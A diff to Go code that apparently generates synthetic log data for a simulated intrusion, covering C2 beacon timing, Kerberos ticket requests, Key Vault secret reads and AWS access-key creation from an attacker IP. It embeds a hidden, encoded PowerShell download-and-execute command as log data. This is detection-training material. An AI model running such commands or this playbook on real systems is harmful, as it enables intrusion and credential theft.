@@ -108,10 +108,16 @@ func (x *intrusion) click() {
 	x.beacon(x.implant, t.Add(2*time.Minute), x.at(1, 9, 0))
 }
 
-// beacon calls the control server every few minutes.
+// beacon calls the control server: often while somebody sits at the other end,
+// later twice an hour.
 func (x *intrusion) beacon(pr *proc, from, to time.Time) {
-	for t := from; t.Before(to); t = t.Add(8*time.Minute + x.jitter(3*time.Minute)) {
+	for n, t := 0, from; t.Before(to); n++ {
 		x.connect(pr, t, controlIP, 443, controlHost)
+		if n < 9 {
+			t = t.Add(3*time.Minute + x.jitter(time.Minute))
+		} else {
+			t = t.Add(27*time.Minute + x.jitter(6*time.Minute))
+		}
 	}
 }
 
@@ -207,8 +213,7 @@ const encoded = "SQBFAFgAKABpAHIAbQAgAGgAdAB0AHAAcwA6AC8ALwBzAHkAbgBjAC4AbABhAG4
 // directory: the next day tickets to crack, and then the directory itself.
 func (x *intrusion) directory() {
 	t := x.at(2, 1, 55)
-	there := x.as(x.admin, x.server, 2)
-	x.runAs(x.foothold, powershell, `powershell.exe -nop -w hidden -enc `+strings.Replace(encoded, "LwBiACkA", "LwBrACkA", 1), there, t)
+	x.run(x.foothold, powershell, `powershell.exe -nop -w hidden -enc `+strings.Replace(encoded, "LwBiACkA", "LwBrACkA", 1), t)
 	for i, svc := range []string{"MSSQLSvc/fnw-sql01", "HTTP/fnw-web01", "MES/fnw-mes01", "MES/fnw-mes02", "KEEP/fnw-bkp01"} {
 		_, target, _ := strings.Cut(svc, "/")
 		x.put("IdentityLogonEvents", t.Add(time.Duration(6+i)*time.Minute/2), values{"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access", "Protocol": "Kerberos",
@@ -223,23 +228,23 @@ func (x *intrusion) directory() {
 
 // cloud: the administrator's account opens the vault and the archive.
 func (x *intrusion) cloud() {
-	x.readMail(x.at(2, 1, 40), 30)
+	x.readMail(x.at(2, 2, 27), 30)
 	s := signIn{app: "Azure Portal", appID: "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", resource: "Azure Resource Manager", ip: thiefIP, country: "MD", city: "Chisinau", agent: thiefAgent,
 		interactive: true, risk: 100, session: x.w.guid("thief session 2")}
-	x.signIn(x.admin, s, x.at(2, 2, 25))
-	t := x.at(2, 2, 38)
+	x.signIn(x.admin, s, x.at(2, 2, 55))
+	t := x.at(2, 3, 8)
 	x.auditVault(x.admin.UPN, "SecretList", "fnw-vault-prod", thiefIP, t)
 	for i := range 9 {
 		x.auditVault(x.admin.UPN, "SecretGet", "fnw-vault-prod", thiefIP, t.Add(time.Duration(11+7*i)*time.Second))
 	}
-	x.storage(x.at(2, 2, 55))
-	x.put("CloudAuditEvents", x.at(2, 3, 12), values{"ActionType": "CreateAccessKey", "OperationName": "CreateAccessKey", "Account": x.admin.UPN, "DataSource": "AWS CloudTrail", "AuditSource": "AWS CloudTrail",
+	x.storage(x.at(2, 3, 25))
+	x.put("CloudAuditEvents", x.at(2, 3, 42), values{"ActionType": "CreateAccessKey", "OperationName": "CreateAccessKey", "Account": x.admin.UPN, "DataSource": "AWS CloudTrail", "AuditSource": "AWS CloudTrail",
 		"AwsResourceName": "arn:aws:iam::111122223333:user/deploy-webshop", "IPAddress": thiefIP, "CountryCode": "MD", "UserAgent": thiefAgent,
 		"RawEventData": map[string]any{"eventName": "CreateAccessKey", "eventSource": "iam.amazonaws.com", "sourceIPAddress": thiefIP, "awsRegion": "eu-central-1",
 			"userIdentity":      map[string]any{"type": "AssumedRole", "arn": "arn:aws:sts::111122223333:assumed-role/Administrators/" + x.admin.UPN},
 			"requestParameters": map[string]any{"userName": "deploy-webshop"}}})
 	x.act(x.admin, cloudAct{action: "Update application – Certificates and secrets management ", app: "Microsoft 365", object: "Tallyworks ERP", objectType: "Application", ip: thiefIP, country: "MD", agent: thiefAgent, admin: true,
-		raw: map[string]any{"ObjectId": x.w.guid("app Tallyworks ERP")}}, x.at(2, 3, 30))
+		raw: map[string]any{"ObjectId": x.w.guid("app Tallyworks ERP")}}, x.at(2, 4, 0))
 }
 
 func (x *intrusion) storage(t time.Time) {
